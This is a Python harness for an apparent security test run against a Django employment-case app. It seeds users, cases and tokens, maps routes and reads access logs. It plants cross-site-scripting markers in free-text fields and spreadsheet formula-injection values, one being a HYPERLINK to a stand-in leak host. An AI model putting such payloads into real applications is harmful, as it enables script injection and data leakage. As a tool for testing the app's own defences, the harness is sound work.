"""What the attack run does inside the application (run with the app's environment).

    python bench/attack/django_side.py world     # users, devices, two units' cases, planted values
    python bench/attack/django_side.py routes    # every route with a URL for A's and B's participant
    python bench/attack/django_side.py log AFTER_ID           # access-log rows after an id, flagged
    python bench/attack/django_side.py count MODEL [MODEL …]  # row counts
    python bench/attack/django_side.py user USERNAME          # is_superuser, is_staff, groups

The working directory is the application's source tree; stdout's last line is JSON.
"""

# A test harness: it runs its own commands, builds SQL from its own constants, and keeps
# its SQL and its messages on one line each.
# ruff: noqa: S105, E501

import datetime
import json
import os
import re
import secrets
import sys

sys.path.insert(0, os.getcwd())
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "stockholmsjobb.settings")

import django

django.setup()

from django.apps import apps  # noqa: E402
from django.contrib.auth.models import Group, Permission  # noqa: E402
from django.contrib.contenttypes.models import ContentType  # noqa: E402
from django.urls import URLPattern, URLResolver, get_resolver  # noqa: E402
from django.urls.resolvers import RegexPattern, RoutePattern  # noqa: E402
from django.utils import timezone  # noqa: E402
from django_otp.plugins.otp_totp.models import TOTPDevice  # noqa: E402

UNIT_A, UNIT_B = "Jobbtorg Järva", "Jobbtorg Söderort"
SURNAME_A, SURNAME_B = "Hemligsson", "Doldasson"
BIRTH_A, BIRTH_B = datetime.date(1983, 8, 17), datetime.date(1979, 3, 4)
SURVEY_TOKEN_A = "attackrun-survey-token-of-participant-a"


def out(value) -> None:
    print(json.dumps(value, default=str))


# --- The world ------------------------------------------------------------------------------


def _device(user) -> str:
    key = secrets.token_hex(20)
    TOTPDevice.objects.filter(user=user).delete()
    TOTPDevice.objects.create(user=user, name="Authenticator", key=key, confirmed=True)
    return key


def _user(username, *, role, unit, password=None, superuser=False, sensitive=False, device=True):
    from accounts.models import User

    password = password or secrets.token_urlsafe(12)
    user, _ = User.objects.update_or_create(
        username=username,
        defaults={
            "first_name": username.replace("_", " ").title(),
            "last_name": "Testsson",
            "email": f"{username}@attack.example",
            "unit": unit,
            "is_active": True,
            "is_staff": superuser or role == "admin",
            "is_superuser": superuser,
        },
    )
    user.set_password(password)
    user.save()
    if role:
        user.groups.set([Group.objects.get_or_create(name=role)[0]])
    if sensitive:
        user.user_permissions.add(
            Permission.objects.get(
                content_type__app_label="participants", codename="view_sensitive"
            )
        )
    return {
        "id": user.pk,
        "password": password,
        "key": _device(user) if device else None,
        "unit": unit.name if unit else None,
    }


def _case(participant, coach, *, tag: str) -> dict:
    """A participant's case with a row of every kind the participant page links to."""
    from followup.models import FollowUp, RegisterOutcome
    from participants.models import CaseNote, Consent, LearningGoal, Study, SupportActivity
    from placements.models import (
        Internship,
        JobType,
        Placement,
        WageSubsidyCase,
        Workplace,
        follow_up_due_date,
    )

    workplace, _ = Workplace.objects.get_or_create(
        name=f"Arbetsplatsen {tag}", defaults={"organisation": "Stadsdelsförvaltningen"}
    )
    job_type = JobType.objects.get(code="basanstallning")
    placement = Placement.objects.create(
        participant=participant,
        job_type=job_type,
        workplace=workplace,
        funding="sdf",
        start_date=datetime.date(2022, 2, 1),
        planned_end_date=datetime.date(2023, 1, 31),
        end_date=datetime.date(2023, 1, 31),
    )
    followup = FollowUp.objects.create(
        placement=placement, due_date=follow_up_due_date(placement.end_date)
    )
    note = CaseNote.objects.create(participant=participant, author=coach, text=f"Träff {tag}.")
    goal = LearningGoal.objects.create(
        participant=participant,
        description=f"Truckkort {tag}",
        target_industry="Lager",
        target_date=datetime.date(2022, 6, 1),
    )
    subsidy = WageSubsidyCase.objects.create(
        participant=participant, employer=f"Lager AB {tag}", applied_on=datetime.date(2023, 2, 1)
    )
    study = Study.objects.create(
        participant=participant,
        kind="sfi",
        course=f"Sfi D {tag}",
        start_date=datetime.date(2022, 3, 1),
        extent_percent=25,
    )
    internship = Internship.objects.create(
        participant=participant,
        employer=f"Butiken {tag}",
        start_date=datetime.date(2022, 3, 2),
        end_date=datetime.date(2022, 3, 13),
    )
    activity = SupportActivity.objects.create(
        participant=participant,
        phase="before",
        kind="mapping",
        date=datetime.date(2022, 1, 20),
        recorded_by=coach,
    )
    outcome = RegisterOutcome.objects.create(
        participant=participant, year=2021, income_source="studier"
    )
    for flow in ("scb", "district"):
        Consent.objects.create(
            participant=participant, flow=flow, given=True, decided_on=participant.enrolled_on
        )
    return {
        "pk": participant.pk,
        "note_pk": note.pk,
        "goal_pk": goal.pk,
        "placement_pk": placement.pk,
        "subsidy_pk": subsidy.pk,
        "workplace_pk": workplace.pk,
        "rows": {
            "participants.Participant": participant.pk,
            "placements.Placement": placement.pk,
            "followup.FollowUp": followup.pk,
            "participants.CaseNote": note.pk,
            "participants.LearningGoal": goal.pk,
            "placements.WageSubsidyCase": subsidy.pk,
            "participants.Study": study.pk,
            "placements.Internship": internship.pk,
            "participants.SupportActivity": activity.pk,
            "followup.RegisterOutcome": outcome.pk,
        },
    }


def _participant(*, unit, coach, first, last, birth, serial):
    from participants.models import District, Participant
    from participants.personnummer import legal_gender, luhn_check_digit

    nine = f"{birth:%y%m%d}{serial:03d}"
    number = f"{birth:%Y%m%d}{serial:03d}{luhn_check_digit(nine)}"
    return Participant.objects.create(
        personnummer=number,
        first_name=first,
        last_name=last,
        gender=legal_gender(number),
        birth_date=birth,
        unit=unit,
        coach=coach,
        district=District.objects.order_by("pk").first(),
        enrolled_on=datetime.date(2021, 11, 15),
        disability=True,
        gender_self_described="Ickebinär " + last,
    )


XSS_TEMPLATES = (
    "<x-xss-{n}></x-xss-{n}>",
    "\"><x-xss-{n}>'",
    "</script><x-xss-{n}>",
    "</textarea><x-xss-{n}>",
    "'\"><svg/x-xss-{n} onload=alert({n})>",
)


def xss_value(n: int, *, limit: int = 100) -> str:
    return (f"Xss{n} " + XSS_TEMPLATES[n % len(XSS_TEMPLATES)].format(n=n))[:limit]


def _plant_xss(unit_a, coach) -> list[dict]:
    """Script-shaped values in every kind of free text a page shows: one marker each."""
    from accounts.models import User
    from followup.models import FollowUp
    from participants.models import (
        CaseNote,
        District,
        LearningGoal,
        Participant,
        Study,
        SupportActivity,
        Unit,
    )
    from placements.models import (
        Internship,
        JobType,
        Placement,
        PlacementTarget,
        WageSubsidyCase,
        Workplace,
    )
    from survey.models import SurveyRound

    planted: list[dict] = []
    counter = iter(range(1, 1000))

    def value(where: str, limit: int = 100) -> str:
        n = next(counter)
        text = xss_value(n, limit=limit)
        planted.append({"n": n, "where": where, "value": text})
        return text

    staff = User.objects.create(
        username="xss_coach",
        first_name=value("user.first_name (a coach)", 150),
        last_name=value("user.last_name (a coach)", 150),
        unit=unit_a,
    )
    staff.set_unusable_password()
    staff.save()
    staff.groups.set([Group.objects.get(name="coach")])
    unit = Unit.objects.create(name=value("unit.name"))
    district = (
        District.objects.create(name=value("district.name"), code="xss-district")
        if any(f.name == "code" for f in District._meta.get_fields())
        else District.objects.create(name=value("district.name"))
    )
    job_type = JobType.objects.create(
        code="xss-jobtype",
        name=value("jobtype.name"),
        setting="ordinary",
        target_group=value("jobtype.target_group", 300),
        min_age=16,
        max_age=64,
        min_months=6,
        max_months=12,
    )
    PlacementTarget.objects.create(job_type=job_type, year=timezone.localdate().year, places=5)
    workplace = Workplace.objects.create(
        name=value("workplace.name", 200),
        organisation=value("workplace.organisation", 200),
        industry=value("workplace.industry"),
        contact_name=value("workplace.contact_name", 200),
        contact_phone=value("workplace.contact_phone", 40),
    )
    people = []
    for i in range(6):  # enough for a dashboard cell of five or more
        participant = _participant(
            unit=unit_a,
            coach=staff if i % 2 else coach,
            first=value(f"participant.first_name ({i + 1})"),
            last=value(f"participant.last_name ({i + 1})"),
            birth=datetime.date(1990, 1, 1) + datetime.timedelta(days=37 * i),
            serial=200 + 2 * i,
        )
        if i == 0:
            participant.gender_self_described = value("participant.gender_self_described")
            participant.save()
        placement = Placement.objects.create(
            participant=participant,
            job_type=job_type,
            workplace=workplace,
            funding="sdf",
            start_date=datetime.date(2023, 2, 1),
            planned_end_date=datetime.date(2023, 12, 31),
            end_date=datetime.date(2023, 12, 31),
        )
        FollowUp.objects.create(
            placement=placement,
            due_date=datetime.date(2024, 3, 31),
            employer_or_school=value("followup.employer_or_school", 200) if i == 0 else "",
            note=value("followup.note", 500) if i == 0 else "",
        )
        people.append(participant)
    first = people[0]
    CaseNote.objects.create(participant=first, author=staff, text=value("casenote.text", 500))
    SupportActivity.objects.create(
        participant=first,
        phase="before",
        kind="mapping",
        date=datetime.date(2022, 1, 20),
        recorded_by=staff,
        note=value("supportactivity.note", 500),
    )
    LearningGoal.objects.create(
        participant=first,
        description=value("learninggoal.description", 500),
        target_industry=value("learninggoal.target_industry"),
        target_date=datetime.date(2024, 6, 1),
    )
    Study.objects.create(
        participant=first,
        kind="sfi",
        course=value("study.course", 200),
        provider=value("study.provider", 200),
        start_date=datetime.date(2022, 3, 1),
        extent_percent=25,
    )
    Internship.objects.create(
        participant=first,
        employer=value("internship.employer", 200),
        occupation=value("internship.occupation", 200),
        start_date=datetime.date(2022, 3, 2),
        end_date=datetime.date(2022, 3, 13),
    )
    WageSubsidyCase.objects.create(
        participant=first,
        employer=value("wagesubsidy.employer", 200),
        applied_on=datetime.date(2024, 2, 1),
    )
    today = timezone.localdate()
    SurveyRound.objects.create(
        name=value("surveyround.name"),
        opens_on=today - datetime.timedelta(days=1),
        closes_on=today + datetime.timedelta(days=30),
    )
    # A participant of the planted unit and district, and one of those for a unit filter.
    other = _participant(
        unit=unit,
        coach=None,
        first="Xssunit",
        last="Person",
        birth=datetime.date(1991, 5, 5),
        serial=300,
    )
    other.district = district
    other.save()
    Participant.objects.filter(pk=first.pk).update(district=district)
    return planted, [p.pk for p in people]


def _plant_formulas(unit_a) -> None:
    """Names a spreadsheet would run as formulas: a coach with overdue follow-ups, a job type."""
    from accounts.models import User
    from followup.models import FollowUp
    from placements.models import JobType, Placement, PlacementTarget, Workplace, follow_up_due_date

    staff = User.objects.create(
        username="formula_coach",
        first_name='=HYPERLINK("http://evil.example/?leak";"Klicka")',
        last_name="-1+1",
        unit=unit_a,
    )
    staff.set_unusable_password()
    staff.save()
    staff.groups.set([Group.objects.get(name="coach")])
    job_type = JobType.objects.create(
        code="formula-jobtype",
        name="+SUM(1;1)",
        setting="ordinary",
        target_group="@SUM(1)",
        min_age=16,
        max_age=64,
        min_months=1,
        max_months=24,
    )
    workplace = Workplace.objects.create(name="@Formelplatsen", organisation="-2+3")
    today = timezone.localdate()
    PlacementTarget.objects.create(job_type=job_type, year=today.year, places=7)
    PlacementTarget.objects.create(job_type=job_type, year=today.year - 1, places=7)
    for i in range(7):
        end = today - datetime.timedelta(days=150 + 20 * i)
        start = end - datetime.timedelta(days=200)
        participant = _participant(
            unit=unit_a,
            coach=staff,
            first="Formel",
            last=f"Person{i}",
            birth=datetime.date(1992, 2, 1) + datetime.timedelta(days=41 * i),
            serial=320 + 2 * i,
        )
        placement = Placement.objects.create(
            participant=participant,
            job_type=job_type,
            workplace=workplace,
            funding="sdf",
            start_date=start,
            planned_end_date=end,
            end_date=end,
        )
        FollowUp.objects.create(placement=placement, due_date=follow_up_due_date(end))


def world() -> None:
    from accounts.models import User
    from participants.models import Unit
    from reports.models import OutcomeSnapshot, SnapshotStatus
    from survey.models import SurveyInvitation, SurveyRound, hash_token

    unit_a, unit_b = Unit.objects.get(name=UNIT_A), Unit.objects.get(name=UNIT_B)
    users = {}
    for username in ("coach", "manager", "admin"):
        user = User.objects.get(username=username)
        users[username] = {
            "id": user.pk,
            "password": "stockholm",
            "key": _device(user),
            "unit": user.unit.name if user.unit else None,
        }
    users["coach_b"] = _user("coach_b", role="coach", unit=unit_b, sensitive=True)
    users["manager_b"] = _user("manager_b", role="manager", unit=unit_b)
    users["coach_totp"] = _user("coach_totp", role="coach", unit=unit_a)
    users["coach_guess"] = _user("coach_guess", role="coach", unit=unit_a)
    users["coach_pairing"] = _user("coach_pairing", role="coach", unit=unit_a, device=False)
    users["coach_lockout"] = _user("coach_lockout", role="coach", unit=unit_a)
    users["coach_race"] = _user("coach_race", role="coach", unit=unit_a)
    users["sj_root"] = _user("sj_root", role="", unit=None, superuser=True)
    for i in range(1, 9):
        users[f"spray{i}"] = _user(f"spray{i}", role="coach", unit=unit_a)

    coach_a = User.objects.get(username="coach")
    coach_b = User.objects.get(username="coach_b")
    part_a = _participant(
        unit=unit_a, coach=coach_a, first="Saga", last=SURNAME_A, birth=BIRTH_A, serial=611
    )
    part_b = _participant(
        unit=unit_b, coach=coach_b, first="Tove", last=SURNAME_B, birth=BIRTH_B, serial=482
    )
    case_a = _case(part_a, coach_a, tag="A")
    case_b = _case(part_b, coach_b, tag="B")
    case_a["personnummer"], case_b["personnummer"] = part_a.personnummer, part_b.personnummer
    case_a["surname"], case_b["surname"] = SURNAME_A, SURNAME_B
    case_a["first_name"], case_b["first_name"] = "Saga", "Tove"
    case_a["birth"], case_b["birth"] = BIRTH_A.isoformat(), BIRTH_B.isoformat()

    today = timezone.localdate()
    survey_round = SurveyRound.objects.create(
        name="Attack round",
        opens_on=today - datetime.timedelta(days=1),
        closes_on=today + datetime.timedelta(days=30),
    )
    SurveyInvitation.objects.create(
        survey_round=survey_round,
        participant=part_a,
        job_type=part_a.placements.first().job_type,
        token_hash=hash_token(SURVEY_TOKEN_A),
    )
    snapshot = OutcomeSnapshot.objects.order_by("-pk").first() or OutcomeSnapshot.objects.create(
        status=SnapshotStatus.DONE
    )
    planted, xss_people = _plant_xss(unit_a, coach_a)
    # A transfer request (where the tree has them): coach B asks to take A's participant over.
    transfer = None
    try:
        transfer_model = apps.get_model("participants", "TransferRequest")
    except LookupError:
        transfer_model = None
    if transfer_model is not None:
        n = max(item["n"] for item in planted) + 1
        reason = xss_value(n, limit=200)
        planted.append({"n": n, "where": "transferrequest.reason", "value": reason})
        transfer = transfer_model.objects.create(
            participant=part_a,
            from_unit=unit_a,
            to_unit=unit_b,
            requested_by=coach_b,
            reason=reason,
        ).pk
    _plant_formulas(unit_a)
    # Fresh figures with the planted names, as the worker would compute them.
    from reports.snapshots import snapshot_compute

    snapshot = snapshot_compute(snapshot_id=OutcomeSnapshot.objects.create().pk)
    out(
        {
            "users": users,
            "a": case_a,
            "b": case_b,
            "units": {"a": UNIT_A, "b": UNIT_B},
            "survey_round": survey_round.pk,
            "survey_token": SURVEY_TOKEN_A,
            "snapshot": snapshot.pk,
            "transfer": transfer,
            "xss": planted,
            "xss_participants": xss_people,
        }
    )


# --- Routes ---------------------------------------------------------------------------------

PARAM = re.compile(r"<(?:(?P<converter>[^>:]+):)?(?P<parameter>[^>]+)>")
REGEX_GROUP = re.compile(r"\(\?P<(?P<parameter>\w+)>")


def _walk(patterns, segments=(), namespaces=()):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            inner = (*namespaces, entry.namespace) if entry.namespace else namespaces
            yield from _walk(entry.url_patterns, (*segments, entry.pattern), inner)
        elif isinstance(entry, URLPattern):
            name = ":".join((*namespaces, entry.name)) if entry.name else None
            yield (*segments, entry.pattern), name, entry.callback


def routes() -> None:
    """Every route, its URL for participant A and, where it touches a participant, for B."""
    world = json.loads(sys.stdin.read())
    others = {
        ("reports:snapshot_status", "pk"): str(world["snapshot"]),
        ("reports:dashboard_csv", "table"): "overdue",
        ("survey:links", "pk"): str(world["survey_round"]),
        ("survey_results:paper_import", "pk"): str(world["survey_round"]),
        ("survey:respond", "token"): world["survey_token"],
        ("annual:download", "kind"): "csv",
    }
    if world.get("transfer"):
        others[("transfers:decide", "pk")] = str(world["transfer"])

    def value_for(name, callback, parameter, converter, case):
        if (name, parameter) in others:
            return others[name, parameter], False
        if name == "placements:workplace_detail":
            return str(case["workplace_pk"]), False
        model_admin = getattr(callback, "model_admin", None)
        if model_admin is not None and parameter in ("object_id", "id"):
            label = model_admin.model._meta.label
            if label in case["rows"]:
                return str(case["rows"][label]), True
            row = model_admin.model._default_manager.order_by("pk").first()
            return (str(row.pk) if row else "0"), False
        if parameter == "content_type_id":
            from participants.models import Participant

            return str(ContentType.objects.get_for_model(Participant).pk), True
        if parameter == "object_id":
            return str(case["pk"]), True
        if parameter == "app_label":
            return "participants", False
        if parameter == "url":
            return "no-such-page/", False
        if parameter in case:
            return str(case[parameter]), True
        if converter in ("int", "") or parameter.endswith(("pk", "id")):
            return str(case["pk"]), True
        return "x", False

    def fill(segments, name, callback, case):
        parts, touches = [], False
        for segment in segments:
            if isinstance(segment, RoutePattern):
                text = str(segment)
                for match in PARAM.finditer(text):
                    value, touched = value_for(
                        name, callback, match["parameter"], match["converter"] or "str", case
                    )
                    touches |= touched
                    text = text.replace(match[0], value, 1)
            elif isinstance(segment, RegexPattern):
                regex = segment._regex.removeprefix("^").removesuffix("\\Z").removesuffix("$")
                while match := REGEX_GROUP.search(regex):
                    depth, end = 0, match.start()
                    for end in range(match.start(), len(regex)):
                        depth += {"(": 1, ")": -1}.get(regex[end], 0)
                        if depth == 0:
                            break
                    value, touched = value_for(name, callback, match["parameter"], "", case)
                    touches |= touched
                    regex = regex[: match.start()] + value + regex[end + 1 :]
                text = re.sub(r"\\(.)", r"\1", regex)
            else:
                text = str(segment)
            parts.append(text)
        return "/" + "".join(parts), touches

    listed = []
    for segments, name, callback in _walk(get_resolver().url_patterns):
        url_a, touches = fill(segments, name, callback, world["a"])
        url_b, _ = fill(segments, name, callback, world["b"])
        pattern = "".join(str(s) for s in segments)
        listed.append(
            {
                "name": name,
                "pattern": pattern,
                "url_a": url_a,
                "url_b": url_b if touches else None,
                "admin": bool(name and name.startswith("admin:")) or pattern.startswith("admin/"),
            }
        )
    out(listed)


# --- Probes ---------------------------------------------------------------------------------


def log(after: str) -> None:
    from audit.models import AccessLogEntry
    from audit.selectors import with_flags

    rows = with_flags(AccessLogEntry.objects.filter(pk__gt=int(after)).order_by("pk"))
    out(
        [
            {
                "id": row.pk,
                "username": row.username,
                "unit": row.unit_name,
                "action": row.action,
                "participant_id": row.participant_id,
                "path": row.path,
                "method": row.method,
                "ip": row.ip_address,
                "detail": row.detail,
                "flagged": row.flagged,
            }
            for row in rows
        ]
    )


def count(*labels: str) -> None:
    out({label: apps.get_model(label)._default_manager.count() for label in labels})


def user(username: str) -> None:
    from accounts.models import User

    found = User.objects.get(username=username)
    out(
        {
            "is_superuser": found.is_superuser,
            "is_staff": found.is_staff,
            "groups": sorted(found.groups.values_list("name", flat=True)),
            "permissions": found.user_permissions.count(),
            "password_changed": not found.check_password(sys.stdin.read().strip() or "-"),
            "devices": TOTPDevice.objects.filter(user=found).count(),
        }
    )


if __name__ == "__main__":
    command, *arguments = sys.argv[1:]
    {"world": world, "routes": routes, "log": log, "count": count, "user": user}[command](
        *arguments
    )
